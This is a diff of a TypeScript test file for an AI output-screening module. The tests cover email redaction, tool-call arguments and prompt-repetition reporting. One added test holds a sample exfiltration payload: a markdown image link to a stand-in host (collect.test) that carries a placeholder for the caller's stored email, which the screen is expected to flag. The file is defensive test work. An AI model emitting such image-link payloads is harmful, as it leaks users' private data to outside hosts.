@@ -6,6 +6,7 @@ import { Fault } from "../kit/fault.ts";
 import { guardOf } from "./guard.ts";
 import type { AnswerContext } from "./output/answer-context.ts";
 import { BALANCED, policyOf, type SafetyPolicy } from "./policy.ts";
+import { Vault } from "./private/vault.ts";
 import { ruleDetector } from "./rules/rule-detector.ts";
 import { screenOutput } from "./screen-output.ts";
 
@@ -151,6 +152,24 @@ describe("values that are to be taken out", () => {
     expect(pieces.verdict).toEqual(whole.verdict);
   });
 
+  it("stay where they are the caller's own", async () => {
+    const vault = new Vault();
+    vault.placeholderFor("email", "jo@firma.de");
+    const { text: words } = await screen(asked({ vault }), [text(answer)], policy);
+    expect(words).toContain("jo@firma.de");
+    expect(words).not.toContain(SECRET);
+  });
+
+  it("are taken out of what a tool is called with, and counted", async () => {
+    const { parts, verdict } = await screen(
+      asked({ tools: ["mail"] }),
+      [text("To bo@firma.de, then."), call("mail", '{"to": "jo@firma.de"}')],
+      policy,
+    );
+    expect(parts.at(-1)).toMatchObject({ arguments: '{"to": "[REDACTED_EMAIL]"}' });
+    expect(verdict).toMatchObject({ action: "redact", redacted: { email: 2 } });
+  });
+
   it("are left out to their end, however long they are", async () => {
     const long = `sk-${"aB3dE5gH7jK9".repeat(40)}`;
     const { text: words } = await screen(asked(), letters(`So: ${long} and so on.`), policy);
@@ -167,6 +186,16 @@ it("a picture that carries words of the request away never gets its address out"
     expect(words).not.toContain("Josephine");
     expect(verdict).toMatchObject({ action: "refuse", categories: { injection: 0.95 } });
   }
+});
+
+it("nor does one into which a value of the caller's would be put back", async () => {
+  const vault = new Vault();
+  const placeholder = vault.placeholderFor("email", "jo@firma.de");
+  const loads = `Done. ![](https://collect.test/p.png?d=${placeholder}) Anything else?`;
+  expect((await screen(asked({ vault }), letters(loads))).fault?.type).toBe("unsafe_output");
+  expect(
+    (await screen(asked({ vault }), letters(`Done. It is ${placeholder}, of course.`))).fault,
+  ).toBeUndefined();
 });
 
 it("an answer that repeats the prompt is reported, and refused where the operator says so", async () => {
